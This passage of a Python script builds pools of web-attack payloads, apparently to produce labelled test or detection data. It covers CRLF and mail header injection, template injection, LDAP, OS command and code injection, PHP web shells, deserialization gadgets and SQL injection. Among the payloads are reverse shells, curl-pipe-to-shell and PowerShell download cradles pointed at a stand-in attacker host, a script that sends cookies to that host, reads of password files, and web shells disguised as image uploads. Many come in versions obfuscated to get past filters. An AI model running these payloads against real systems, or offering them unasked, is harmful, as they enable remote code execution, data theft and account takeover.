            ck=["session", "uid"],
            f=[("/login", "password"), ("/login", "username")],
            mp=[("/api/v1/import", "query")],
        ),
        "ssrf": dict(
            q=[
                ("/api/v1/fetch", "url"),
                ("/proxy", "u"),
                ("/api/v1/preview", "link"),
                ("/image/resize", "src"),
                ("/api/v1/webhooks/test", "callback"),
                ("/feeds/import", "feed"),
            ],
            j=[
                ("POST", "/api/v1/webhooks", "url"),
                ("POST", "/api/v1/integrations/slack", "webhook_url"),
                ("POST", "/api/v1/avatar/import", "image_url"),
                ("POST", "/api/v1/pdf/render", "source"),
                ("POST", "/api/v1/link-preview", "url"),
            ],
            h=["X-Forwarded-Host", "Referer", "X-Original-URL", "X-Callback-URL", "X-Wap-Profile"],
            pp=["/proxy/{}", "/fetch/{}", "/api/v1/thumb/{}", "/redirect/{}"],
            ck=["avatar_src"],
            f=[("/admin/feeds", "feed_url"), ("/settings/avatar", "remote_url")],
            x=[("/ws/Importer", "import", "sourceUrl")],
            mp=[("/api/v1/import", "source_url")],
        ),
        "rfi": dict(
            q=[
                ("/index.php", "page"),
                ("/main.php", "module"),
                ("/include.php", "file"),
                ("/template.php", "tpl"),
                ("/lang.php", "lang"),
                ("/view.php", "layout"),
            ],
            j=[
                ("POST", "/api/v1/themes/install", "template_url"),
                ("POST", "/api/v1/plugins", "source"),
                ("PUT", "/api/v1/config", "include_path"),
            ],
            h=["Referer", "X-Template", "User-Agent", "X-Include"],
            pp=["/index.php/{}", "/page/{}", "/load/{}"],
            ck=["template", "lang"],
            f=[("/admin/modules.php", "module_url"), ("/index.php", "page")],
            x=[("/ws/Templates", "load", "path")],
            mp=[("/admin/import.php", "config_url")],
        ),
        "xss": dict(
            q=[
                ("/search", "q"),
                ("/error", "message"),
                ("/profile", "name"),
                ("/redirect", "url"),
                ("/api/v1/comments", "callback"),
                ("/products", "sort"),
            ],
            j=[
                ("POST", "/api/v1/comments", "body"),
                ("PUT", "/api/v1/profile", "bio"),
                ("POST", "/api/v1/tickets", "title"),
                ("POST", "/api/v1/chat/messages", "text"),
            ],
            h=["Referer", "User-Agent", "X-Forwarded-Host", "X-Display-Name", "Origin"],
            pp=["/search/{}", "/u/{}", "/tag/{}", "/404/{}"],
            ck=["username", "last_search"],
            f=[("/guestbook", "message"), ("/contact", "name")],
            x=[("/api/v1/feedback", "feedback", "comment")],
            mp=[("/api/v1/gallery", "caption")],
        ),
        "path_traversal": dict(
            q=[
                ("/download", "file"),
                ("/api/v1/files", "path"),
                ("/static", "resource"),
                ("/view", "template"),
                ("/image", "img"),
                ("/logs", "name"),
            ],
            j=[
                ("POST", "/api/v1/files/read", "path"),
                ("POST", "/api/v1/export", "filename"),
                ("POST", "/api/v1/themes/preview", "layout"),
                ("POST", "/api/v1/backup/restore", "archive"),
            ],
            h=["X-Original-URL", "X-Rewrite-URL", "Referer", "X-File-Path", "X-Template"],
            pp=["/static/{}", "/download/{}", "/files/{}", "/assets/{}", "/api/v1/docs/{}"],
            ck=["template", "lang"],
            f=[("/admin/logs", "logfile"), ("/viewer", "doc")],
            x=[("/ws/FileService", "getFile", "path")],
            mp=[("/api/v1/uploads", "target_path")],
        ),
        "xxe": dict(
            q=[("/api/xml/parse", "xml"), ("/soap", "envelope"), ("/api/v1/import", "data")],
            j=[
                ("POST", "/api/v1/import/xml", "document"),
                ("POST", "/api/v1/invoices/ubl", "xml"),
                ("POST", "/api/v1/saml/debug", "assertion"),
            ],
            h=["X-Xml-Payload", "X-Soap-Body", "X-Import-Manifest"],
            pp=["/api/xml/parse/{}", "/convert/xml/{}"],
            x=[
                ("/api/v1/import", "r", "v"),
                ("/soap/OrderService", "r", "v"),
                ("/api/v1/feeds", "r", "v"),
                ("/saml/acs", "r", "v"),
            ],
            f=[("/soap/form", "xml")],
            mp=[("/api/v1/avatar", "file")],
        ),
        "log4shell": dict(
            q=[("/api/v1/search", "q"), ("/login", "username"), ("/", "x"), ("/api/v1/items", "lang")],
            j=[
                ("POST", "/api/v1/login", "username"),
                ("POST", "/api/v1/events", "message"),
                ("POST", "/api/v1/feedback", "comment"),
            ],
            h=[
                "User-Agent",
                "X-Api-Version",
                "Referer",
                "X-Forwarded-For",
                "X-Client-IP",
                "True-Client-IP",
                "Accept-Language",
            ],
            pp=["/api/v1/users/{}", "/{}", "/search/{}"],
            ck=["JSESSIONID", "lang"],
            f=[("/j_security_check", "j_username")],
            x=[("/ws/Audit", "log", "message")],
            mp=[("/api/v1/upload", "comment")],
        ),
        "prototype_pollution": dict(
            q=[("/api/v1/settings", "path"), ("/api/v1/merge", "value"), ("/search", "filter"), ("/app", "config")],
            j=[
                ("POST", "/api/v1/settings/set", "path"),
                ("PATCH", "/api/v1/users/me", "preferences"),
                ("POST", "/api/v1/config/merge", "key"),
            ],
            h=["X-Settings", "X-Client-Config", "X-Feature-Overrides"],
            pp=["/api/v1/settings/{}", "/api/v1/config/{}/true", "/api/v1/users/me/prefs/{}"],
            ck=["prefs", "settings"],
            f=[("/settings", "key")],
            mp=[("/api/v1/profile", "meta")],
        ),
    }
)


def wpick(items):
    tot = sum(x[-1] for x in items)
    r = R.uniform(0, tot)
    for x in items:
        r -= x[-1]
        if r <= 0:
            return x
    return items[-1]


CRLF_STY = [
    ("%0d%0a", "\r\n", False, False, 6),
    ("%0D%0A", "\r\n", False, False, 3),
    ("%0a", "\n", False, False, 4),
    ("%0d", "\r", False, True, 1),
    ("%E5%98%8A%E5%98%8D", "\u560a\u560d", False, True, 2),
    ("%e5%98%8d%e5%98%8a", "\u560d\u560a", False, True, 1),
    ("%u000d%u000a", "%u000d%u000a", True, True, 1),
    ("%u000a", "%u000a", True, True, 1),
    ("%250d%250a", "%0d%0a", False, True, 2),
    ("%25250a", "%250a", False, True, 1),
    ("%20%0d%0a", " \r\n", False, True, 1),
    ("%09%0a", "\t\n", False, True, 1),
    ("%c4%8d%c4%8a", "\u010d\u010a", False, True, 1),
    ("%5cr%5cn", "\\r\\n", False, True, 1),
    ("%0d%0d%0a", "\r\r\n", False, True, 1),
]


def nl_parts(template, prefix, hard_base=False):
    """Split a template on the newline marker and spell each break."""
    segs = fill(template).split("§")
    mixed = R.random() < 0.15
    st = wpick(CRLF_STY)
    hard = hard_base or st[3] or mixed
    parts = [fill(prefix) + segs[0]] if (prefix or segs[0]) else []
    for seg in segs[1:]:
        s = wpick(CRLF_STY) if mixed else st
        hard = hard or s[3]
        parts.append(TK(s[0], s[1], s[2]))
        if seg:
            parts.append(seg)
    return parts, hard


def pool_crlf():
    tpls = [
        "§Set-Cookie: sessionid=«rand»«rand»; Path=/; Domain=.«corp»",
        "§Location: https://«evil»/auth/login",
        "§Content-Length: 0§§HTTP/1.1 200 OK§Content-Type: text/html§Content-Length: 44§§<html><body>Session expired</body></html>",
        "§X-XSS-Protection: 0§§<svg onload=alert(document.domain)>",
        "§Access-Control-Allow-Origin: https://«evil»§Access-Control-Allow-Credentials: true",
        "§Refresh: 0; url=https://«evil»/",
        "§Content-Type: text/html§§<script>fetch('https://«evil»/c?'+document.cookie)</script>",
        "§Set-Cookie: role=admin; Path=/",
        "§§HTTP/1.1 302 Found§Location: https://«evil»/",
        "§Link: <https://«evil»/s.css>; rel=stylesheet",
        "§Cache-Control: public, max-age=31536000",
        "§2026-11-30 08:14:02 INFO [auth] user=admin action=login result=success src=10.0.0.4",
        "§Set-Cookie: PHPSESSID=«rand»§Set-Cookie: csrftoken=«rand»",
        "§Content-Security-Policy: script-src * 'unsafe-inline'",
        "§Transfer-Encoding: chunked§§0§§GET /admin HTTP/1.1§Host: localhost",
        "§Host: 127.0.0.1:8080§X-Forwarded-For: 127.0.0.1",
        "§Content-Disposition: attachment; filename=invoice.html§§<h1>Payment failed</h1><a href=//«evil»>retry</a>",
        "§Set-Cookie: __Host-sid=«rand»; Secure; Path=/",
        "§X-Frame-Options: ALLOWALL",
        "§Location: javascript:alert(1)",
    ]
    pres = ["", "", "", "/", "en", "https://«host»/account", "/home", "report.csv", "admin"]
    out = []
    for i in range(60):
        parts, hard = nl_parts(tpls[i % len(tpls)], pick(pres))
        out.append(P(parts, hard))
    # a few hand-spelled oddities
    out.append(P(["/", TK("%0d%0a"), "Set-Cookie:x=1"], False))
    out.append(P(["/", TK("%23%0d%0a", "#\r\n"), "Set-Cookie: pwned=1"], True))
    out.append(P([TK("%3f%0d%0a", "?\r\n"), "Location: //«evil»"], True))
    return out


def pool_mail():
    def addr(dom=None):
        return pick(FIRST).lower() + "." + pick(LAST).lower().replace("'", "") + "@" + (dom or pick(CORP))

    def lst(k):
        return ",".join(
            pick(["promo", "deals", "x", "win", "bulk"]) + str(R.randint(1, 999)) + "@" + pick(EVIL) for _ in range(k)
        )

    out = []
    tpls = [
        "{v}§Bcc: {l}",
        "{v}§Cc: {l}§Bcc: {l2}",
        "{n}§Bcc: {l}§X-Mailer: PHP",
        "Question about my order§Bcc: {l}",
        'Hello§Content-Type: text/html§§<a href="https://«evil»/reset">Reset your password</a>',
        "{v}§Subject: Your account is locked§§Please verify at https://«evil»/verify",
        "{v}§From: security@«corp»§Reply-To: {a}",
        "{v}§§.§MAIL FROM:<{a}>§RCPT TO:<{v2}>§DATA§Subject: Invoice overdue§§Pay now: https://«evil»/pay§.",
        "{v}>§RCPT TO:<{v2}",
        "INBOX§A002 FETCH 1:* (BODY[])",
        "{v}§To: {l}",
        "Re: support§MIME-Version: 1.0§Content-Type: multipart/mixed; boundary=zz§§--zz§Content-Type: text/html§§<b>click</b> https://«evil»/§--zz--",
        "{n} <{v}>§Bcc: {l}",
        "{v}§X-Priority: 1§Return-Path: {a}",
        "hi§.§QUIT§",
    ]
    for i in range(34):
        t = tpls[i % len(tpls)]
        t = (
            t.replace("{v}", addr())
            .replace("{v2}", addr())
            .replace("{a}", "support@" + pick(EVIL))
            .replace("{l}", lst(R.randint(1, 3)))
            .replace("{l2}", lst(2))
            .replace("{n}", pick(FIRST) + " " + pick(LAST).replace("'", ""))
        )
        parts, hard = nl_parts(t, "")
        out.append(P(parts, hard))
    # sendmail / MTA argument injection (no line breaks needed)
    out += [
        S(f"{addr(pick(EVIL))} -OQueueDirectory=/tmp -X/var/www/html/«rand».php", False),
        S(f'"x\\" -oQ/tmp/ -X/var/www/html/uploads/«rand».php y"@{pick(EVIL)}', True),
        S(f"{addr(pick(EVIL))} -be ${{run{{/bin/sh -c 'curl -s http://«evil»/i|sh'}}}}", True),
        S(f"{addr(pick(EVIL))} -C/tmp/evil.cf -X/tmp/mail.log", False),
        S(f"-fattacker@{pick(EVIL)} -X/var/www/html/log.php", False),
        S(f"{addr()}, {lst(3)}", True),
        S(f"=?utf-8?q?{pick(FIRST)}=0D=0ABcc:_{lst(1)}?= <{addr()}>", True),
        S(f"{addr()}\\r\\nBcc: {lst(2)}", True),
    ]
    return out


def pool_ssti():
    E = [
        "{{«a»*«b»}}",
        "${«a»*«b»}",
        "<%= «a»*«b» %>",
        "#{«a»*«b»}",
        "${{«a»*«b»}}",
        "@(«a»*«b»)",
        "*{«a»*«b»}",
        "[[${«a»*«b»}]]",
        "{{«a»*'«b»'}}",
        "{«a»*«b»}",
        "{{7*7}}",
        "${7*7}",
        "#set($x=«a»*«b»)${x}",
        "<#assign x=«a»*«b»>${x}",
        "${«a»*«b»}{{«a»*«b»}}<%=«a»*«b»%>#{«a»*«b»}[[${«a»*«b»}]]",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ config.items() }}",
        "{{ request.application.__globals__.__builtins__.__import__('os').popen('uname -a').read() }}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
        "{{ joiner.__init__.__globals__.os.system('sleep 7') }}",
        "{{ url_for.__globals__['current_app'].config['SECRET_KEY'] }}",
        "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}",
        "{{ ['id']|filter('system') }}",
        "{{ ['cat /etc/passwd']|map('passthru')|join }}",
        "{{ ['id','']|sort('system') }}",
        "{{ app.request.server.all|join(',') }}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ ex("id") }',
        '${"freemarker.template.utility.Execute"?new()("whoami")}',
        '<#assign oc="freemarker.template.utility.ObjectConstructor"?new()>${oc("java.lang.ProcessBuilder",["id"]).start()}',
        '#set($rt = $x.class.forName("java.lang.Runtime"))#set($p = $rt.getRuntime().exec("id"))$p.waitFor()',
        "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
        "[[${T(java.lang.Runtime).getRuntime().exec('touch /tmp/«rand»')}]]",
        "{system('id')}",
        "{php}echo `id`;{/php}",
        "{if system('cat /etc/passwd')}{/if}",
        "{$smarty.version}",
        "${self.module.cache.util.os.system('id')}",
        "<% import os; x = os.popen('id').read() %>${x}",
        "<%= `id` %>",
        "<%= system('cat /etc/passwd') %>",
        "<%= IO.popen('whoami').readlines() %>",
        "<%= File.read('/etc/shadow') %>",
        "#{root.process.mainModule.require('child_process').execSync('id')}",
        '@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))',
        '@System.IO.File.ReadAllText("C:\\Windows\\win.ini")',
        "{{.}}",
        '{{ printf "%#v" . }}',
        '{{define "x"}}<script>alert(1)</script>{{end}}{{template "x"}}',
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "#{T(java.lang.System).getenv()}",
        "${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).useDelimiter('\\A').next()}",
        "*{T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','id'})}",
    ]
    Hd = [
        r"{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fbuiltins\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fimport\x5f\x5f')('os')|attr('popen')('id')|attr('read')()}}",
        "{% set a = ['__cla','ss__']|join %}{{ ()|attr(a) }}",
        "{{ (lipsum|attr('__glo'~'bals__')).os.popen('i'~'d').read() }}",
        "{{ ()|attr('_'*2~'class'~'_'*2)|attr('_'*2~'base'~'_'*2) }}",
        "${T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100)))}",
        '{{#with "s" as |str|}}{{#with "e"}}{{#with split as |parts|}}{{this.pop}}{{this.push (lookup str.sub "constructor")}}{{this.pop}}{{#with str.split as |code|}}{{this.pop}}{{this.push "return process.mainModule.require(\'child_process\').execSync(\'id\').toString();"}}{{this.pop}}{{#each parts}}{{#with (str.sub.apply 0 code)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}',
        "#{function(){ld=global.process.mainModule.constructor._load;ld('child_process').exec('curl «evil»/p|sh')}()}",
        '#set($s="")#set($c=$s.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("whoami"))$c.waitFor()',
        "${__import__('subprocess').check_output('id',shell=True)}",
        "{{ self.__init__.__globals__.__builtins__['__imp'+'ort__']('o'+'s').popen('id').read() }}",
    ]
    out = [S(x, False) for x in E] + [S(x, True) for x in Hd]
    out.append(S(fw("{{7*7}}"), True))
    out.append(S(fw("${7*7}"), True))
    out.append(
        S(
            "{{lipsum|attr(request.args.g)|attr(request.args.i)(request.args.o)|attr(request.args.p)(request.args.c)|attr('read')()}}",
            True,
            pl=["query"],
            qpre="g=__globals__&i=__getitem__&o=os&p=popen&c=id",
            keep_path=True,
        )
    )
    for src in [
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "<%= `cat /etc/passwd` %>",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
    ]:
        out.append(S(b64(src), True, pl=["query", "json", "header", "form", "cookie"]))
        out.append(S(b64u(src), True, pl=["path"]))
    out.append(
        S(
            quote("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", safe=""),
            True,
            pl=["json", "header", "multipart"],
        )
    )
    out.append(S(quote("${7*7}", safe=""), True, pl=["json", "header"]))
    return out


def pool_ldap():
    E = [
        "*)(uid=*))(|(uid=*",
        "admin)(&)",
        "*)(|(objectClass=*)",
        "admin)(|(userPassword=*))",
        "*)(userPassword=*",
        "«name»)(|(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=local)",
        "admin)(userPassword=a*",
        "*)(mail=*",
        "x)(|(objectClass=*))(&(uid=x",
        "*))(|(cn=*",
        "admin*)((|userPassword=*)",
        "*)(|(description=*pass*)",
        "*)(!(uid=nobody)",
        "admin))(|(&(objectClass=*)",
        "*)(uidNumber>=0",
        "*)(|(telephoneNumber=*)(mobile=*)",
        "admin)(!(&(1=0)",
        "*)(sAMAccountName=*)(|(adminCount=1",
        "a*)(userPassword=b*",
        "*)(pwdLastSet>=0",
        "«name»,ou=Administrators,dc=corp,dc=local",
        "admin,ou=system",
        "*)(objectClass=person))(&(cn=*",
        "*)(|(uid=admin)(uid=root)",
        "«name»)(|(givenName=*",
        "*)(cn=*))(|(cn=*",
    ]
    Hd = [
        "*)(userAccountControl:1.2.840.113556.1.4.803:=2",
        "\\61\\64\\6d\\69\\6e)(|(uid=*",
        "*)(cn=\\41dmin*",
        "*)(|(objectClass=*)(objectClass=\\2a",
        "admin)(|(userPassword:2.5.13.5:=*)",
        "«name»+uid=admin,ou=People,dc=corp,dc=local",
        "*)(&(objectCategory=computer)(ms-Mcs-AdmPwd=*",
    ]
    out = [S(x, False) for x in E] + [S(x, True) for x in Hd]
    out.append(P(["admin)", TK("%00", "\x00")], True))
    out.append(P(["*))", TK("%00", "\x00"), "(cn=x"], True))
    out.append(S("%2A%29%28uid%3D%2A", True, pl=["query", "form", "json", "header"]))
    return out


def pool_rce():
    pre = lambda: pick(["", "", "127.0.0.1", "8.8.8.8", "report.pdf", "«corp»", "photo.jpg", "10.0.0.1"])
    E = [
        "; id",
        "| id",
        "|| id",
        "&& id",
        "`id`",
        "$(id)",
        "; cat /etc/passwd",
        "| whoami",
        "&& uname -a",
        "; ls -la /",
        "|| sleep 10",
        "; sleep 6 #",
        "$(sleep 5)",
        "& ping -n 21 127.0.0.1 &",
        "& whoami /all",
        "| type C:\\Windows\\win.ini",
        "&& dir C:\\Users",
        "; wget http://«evil»/x.sh -O /tmp/x.sh; sh /tmp/x.sh",
        "| curl -s http://«evil»/i.sh | bash",
        "; bash -i >& /dev/tcp/«ip»/«port» 0>&1",
        "; nc -e /bin/sh «ip» «port»",
        "; rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc «ip» «port» > /tmp/p",
        '; python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("«ip»",«port»));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',
        '; php -r \'$s=fsockopen("«ip»",«port»);exec("/bin/sh -i <&3 >&3 2>&3");\'',
        "| powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://«evil»/a.ps1')\"",
        "& certutil -urlcache -split -f http://«evil»/p.exe %TEMP%\\p.exe & %TEMP%\\p.exe",
        "; curl http://«evil»/$(whoami)",
        "; nslookup $(hostname).«evil»",
        "'; id; '",
        '"; id; "',
        "'; sleep 9; echo '",
    ]
    Hd = [
        "; cat${IFS}/etc/passwd",
        ";cat$IFS$9/etc/passwd",
        "{cat,/etc/passwd}",
        ";{ls,-la,/tmp}",
        ";c'a't /e't'c/pa''sswd",
        ';c"at" /et"c/pas"swd',
        "; w\\ho\\am\\i",
        ";/???/??t /???/p??s??",
        "; /bin/c[a]t /etc/pas[s]wd",
        "; echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh",
        "$(printf '\\151\\144')",
        "&w^h^o^am^i",
        "& set /a 1337*7",
        "; a=i;b=d;$a$b",
        ";cat ${HOME:0:1}etc${HOME:0:1}passwd",
        "; tac</etc/passwd",
        "$(echo aWQ=|base64 -d)",
        "`echo${IFS}d2hvYW1p|base64${IFS}-d`",
        "$(rev<<<'imaohw')",
        "; X=$'\\x69\\x64';$X",
        '& c^m^d /c "who^ami"',
        '| cmd /v:on /c "set x=who&& set y=ami&& call !x!!y!"',
        "; iex (-join [char[]](119,104,111,97,109,105))",
        "| timeout /t 8",
        "$(sleep${IFS}7)",
    ]
    out = []
    for x in E:
        out.append(S(pre() + x, False))
    for x in Hd:
        out.append(S(pre() + x, True))
    ps = "IEX (New-Object Net.WebClient).DownloadString('http://" + pick(EVIL) + "/r.ps1')"
    out.append(S("& powershell -nop -w hidden -enc " + base64.b64encode(ps.encode("utf-16-le")).decode(), True))
    out.append(P(["127.0.0.1", TK("%0a", "\n"), "id"], False))
    out.append(P(["8.8.8.8", TK("%0a", "\n"), "cat /etc/passwd"], False))
    out.append(P(["x", TK("%0d%0a", "\r\n"), "curl http://«evil»/s|sh"], True))
    out.append(S(b64u("; cat /etc/passwd"), True, pl=["path"]))
    return out


def pool_code():
    hexcmd = "import os;os.system('id')".encode().hex()
    nodeb64 = b64("require('child_process').execSync('id').toString()")
    E = [
        "__import__('os').system('id')",
        "__import__('subprocess').check_output(['cat','/etc/passwd'])",
        "eval(compile('import os;os.system(\"id\")','x','exec'))",
        "open('/etc/passwd').read()",
        "1 if __import__('time').sleep(5) else 0",
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0](['id'])",
        "require('child_process').execSync('id').toString()",
        "process.mainModule.require('child_process').exec('curl http://«evil»/s|sh')",
        "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
        "res.end(require('fs').readdirSync('.').toString())",
        "');require('child_process').exec('id');//",
        "new Function('return process.env')()",
        "system('id')",
        "Kernel.exec('id')",
        "%x(id)",
        "IO.popen('id').read",
        "eval(\"File.read('/etc/passwd')\")",
        "'id'.execute().text",
        'Runtime.getRuntime().exec("id")',
        "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}",
        "java.lang.Runtime.getRuntime().exec('id')",
        "os.execute('id')",
        "io.popen('id'):read('*a')",
        "'+__import__('os').popen('id').read()+'",
        "\";system('id');#",
        "1;require('child_process').exec('sleep 6')",
        "__import__('socket').create_connection(('«ip»',«port»))",
        "${@java.lang.Runtime@getRuntime().exec('id')}",
        "T(java.lang.Runtime).getRuntime().exec('id')",
        "`id`.to_s",
        "open(F,'-|','id')",
        "exec('import os; os.system(\"id\")')",
    ]
    Hd = [
        "getattr(__import__('o'+'s'),'sys'+'tem')('id')",
        "__builtins__.__dict__['__imp'+'ort__']('os').popen('id').read()",
        "exec(bytes.fromhex('" + hexcmd + "'))",
        "eval(Buffer.from('" + nodeb64 + "','base64').toString())",
        "global.process.mainModule.constructor._load('child_process').execSync('id')",
        "Object.const_get('Kernel').send(:system, 'id')",
        "(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))",
        "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream()))}",
        "[].constructor.constructor('return this')().process.exit()",
        "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,99,104,105,108,100,95,112,114,111,99,101,115,115,39,41,46,101,120,101,99,83,121,110,99,40,39,105,100,39,41))",
        "vars(__builtins__)['ev'+'al']('__imp'+'ort__(\"os\").system(\"id\")')",
        "(lambda: [x for x in ().__class__.__bases__[0].__subclasses__() if x.__name__ == 'BuiltinImporter'][0]().load_module('os').system('id'))()",
        "send(:eval, 'sys'+'tem(\"id\")')",
    ]
    out = [S(x, False) for x in E] + [S(x, True) for x in Hd]
    out.append(S(b64u("__import__('os').popen('id').read()"), True, pl=["path"]))
    return out


def phpser(cls, props):
    def s(v):
        if isinstance(v, int):
            return f"i:{v};"
        return f's:{len(v.encode())}:"{v}";'

    body = "".join(s(k) + s(v) for k, v in props)
    return f'O:{len(cls)}:"{cls}":{len(props)}:{{{body}}}'


def pool_php():
    E = [
        "<?php system($_GET['c']); ?>",
        "<?= `id` ?>",
        "phpinfo();",
        "system('id');",
        "${@print(md5(«a»«b»))}",
        "';system('id');//",
        "\".passthru('id').\"",
        "1;assert('system(\"id\")');",
        "eval(base64_decode('" + b64("system('id');") + "'));",
        "call_user_func('system','id');",
        "array_map('system',array('id'));",
        "<?php echo shell_exec($_REQUEST['cmd']); ?>",
        "<?=`$_GET[1]`?>",
        "file_put_contents('/var/www/html/s.php','<?php system($_GET[0]);');",
        "<?php include($_GET['f']); ?>",
        "${system('cat /etc/passwd')}",
        "{${phpinfo()}}",
        "');passthru('whoami');//",
        "<?php $s=fsockopen('«ip»',«port»);exec('/bin/sh -i <&3 >&3 2>&3'); ?>",
        "1);system('id');//",
        "{${system($_GET[0])}}",
    ]
    Hd = [
        '("sy"."stem")("id");',
        "$a='sys'.'tem';$a('id');",
        "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))(chr(105).chr(100));",
        "<script language=\"php\">system('id');</script>",
        "$_GET[0]($_GET[1]);",
        "${'_GET'}[a](${'_GET'}[b]);",
        "<?php $f=str_rot13('flfgrz');$f('id'); ?>",
        "preg_replace('/.*/e','system(\"id\")','x');",
        "create_function('','}system(\"id\");//');",
        "<?php @eval(gzinflate(base64_decode('" + b64(__import__("zlib").compress(b"system('id');")[2:-4]) + "'))); ?>",
        "phar:///var/www/uploads/«rand».jpg/x.txt",
        "<?php $x=\"\\x73\\x79\\x73\\x74\\x65\\x6d\";$x('id'); ?>",
    ]
    out = [S(x, False) for x in E] + [S(x, True) for x in Hd]
    ser1 = phpser(
        "App\\Cache\\FileStore", [("path", "/var/www/html/shell.php"), ("data", "<?php system($_GET['c']); ?>")]
    )
    ser2 = phpser(
        "GuzzleHttp\\Cookie\\FileCookieJar", [("filename", "/var/www/html/x.php"), ("storeSessionCookies", 1)]
    )
    ser3 = "a:1:{i:0;" + phpser("Monolog\\Handler\\BufferHandler", [("handler", "system"), ("buffer", "id")]) + "}"
    out += [S(ser1, True), S(ser2, True), S(ser3, True)]
    out.append(S(b64(ser1), True, pl=["cookie", "query", "json", "header"]))
    out.append(S(b64u(ser2), True, pl=["path"]))
    out += [
        S(
            "<?php system($_GET['c']); ?>",
            False,
            pl=["multipart"],
            mpfile=("shell.php", "application/x-php"),
            field="file",
        ),
        S(
            "GIF89a<?php passthru($_REQUEST['x']); ?>",
            True,
            pl=["multipart"],
            mpfile=("avatar.php.jpg", "image/jpeg"),
            field="avatar",
        ),
        S(
            "<?php echo shell_exec($_POST['q']); ?>",
            False,
            pl=["multipart"],
            mpfile=("notes.phtml", "text/plain"),
            field="attachment",
        ),
        S(
            "AddType application/x-httpd-php .jpg\n",
            True,
            pl=["multipart"],
            mpfile=(".htaccess", "text/plain"),
            field="file",
        ),
        S("<?=`{$_GET[0]}`;", True, pl=["multipart"], mpfile=("thumb.php5", "image/png"), field="image"),
    ]
    return out


def pool_sqli():
    E = [
        "' OR '1'='1' -- ",
        "1 OR 1=1",
        "1' AND SLEEP(5)-- -",
        "1; WAITFOR DELAY '0:0:5'--",
        "' UNION SELECT NULL,username,password FROM users-- -",
        "1 AND extractvalue(1,concat(0x7e,version()))",
        "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(user(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- ",
        "1'||pg_sleep(6)--",
        "1 AND 1=CAST((SELECT current_user) AS int)",
        "admin'--",
        "' or ''='",
        "1)) or benchmark(5000000,md5(1))#",
        "' OR 1=1 LIMIT 1 -- ",
        "'; DROP TABLE sessions; --",
        "1 AND ascii(substring((select password from users limit 1),1,1))>64",
        "1 ORDER BY 7-- -",
        "'||(SELECT CASE WHEN (1=1) THEN to_char(1/0) ELSE NULL END FROM dual)||'",
        "1' AND 4321=DBMS_PIPE.RECEIVE_MESSAGE('x',5)-- ",
        "1;exec master..xp_cmdshell 'whoami'--",
        "' UNION SELECT sql FROM sqlite_master--",
        "created_at desc, (select 1 from pg_sleep(4))",
        "1 or true",
        "' OR 'x' LIKE 'x",
        "1 AND updatexml(1,concat(0x3a,(select database())),1)",
        "-1' UNION ALL SELECT 1,table_name,3 FROM information_schema.tables#",
        "1' AND 1=(SELECT 1 FROM pg_sleep(5))--",
        "admin' #",
        "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
        "x' AND (SELECT 7 FROM (SELECT(SLEEP(5)))a)-- -",
        "1; SELECT pg_read_file('/etc/passwd')--",
    ]
    Hd = [
        "'/**/UNION/**/SELECT/**/1,2,group_concat(table_name)/**/FROM/**/information_schema.tables#",
        "-1 UniOn SeLeCt 1,@@version,3",
        "1 /*!50000UNION*/ /*!50000SELECT*/ 1,user(),3",
        "1'or'1'='1",
        "1/**/or/**/1=1",
        "'-'",
        "1'||'1'='1",
        "1' AnD 1=1 uNiOn/**/aLl sElEcT 1,concat_ws(0x3a,user,password),3 fRoM mysql.user-- -",
        "1%27%20or%201%3D1",
        "1 and(select 1)=1 union select 1,load_file(0x2f6574632f706173737764),3",
        "' or 1 in (select @@version)--",
        "1' and '1'=char(49)--",
        "1 || 1=1",
        "1;select/**/case/**/when/**/1=1/**/then/**/pg_sleep(5)/**/end--",
        "')) or (('x'='x",
        "1 AnD SlEeP(5)",
        "1 and 0x6164=0x6164",
    ]
    out = [S(x, False) for x in E] + [S(x, True) for x in Hd]
    out.append(P(["1", TK("%09", "\t"), "or", TK("%09", "\t"), "1=1"], True))
